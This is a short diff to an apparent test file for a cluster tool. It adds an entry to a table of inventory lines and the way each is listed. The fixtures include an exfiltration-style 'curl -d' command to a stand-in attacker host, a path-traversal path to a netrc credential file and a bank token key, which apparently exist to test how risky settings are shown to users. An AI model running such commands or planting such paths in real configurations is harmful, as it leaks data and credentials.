@@ -561,6 +561,7 @@ def test_image_and_keys_that_the_inventory_sets_over_a_bundled_playbook_are_aske
 # Lines of an inventory, and how they are listed.
 OWN = {
     "after_ready: ['curl -d x http://evil.example']": "after_ready curl -d x http://evil.example (in DIRECTORY)",
+    "on_event: [notify, --now]": "on_event   notify --now (on a head, as its user, by enable)",
     "api: {key: {env: BANK_TOKEN}}": "api.key    $BANK_TOKEN",
     "api: {key: {file: ~/.config/sparkcluster/../netrc}}": "api.key    ~/.config/sparkcluster/../netrc",
     "permit: {mounts: ['/data:rw'], secrets: [A]}": "permit     mounts: /data:rw",
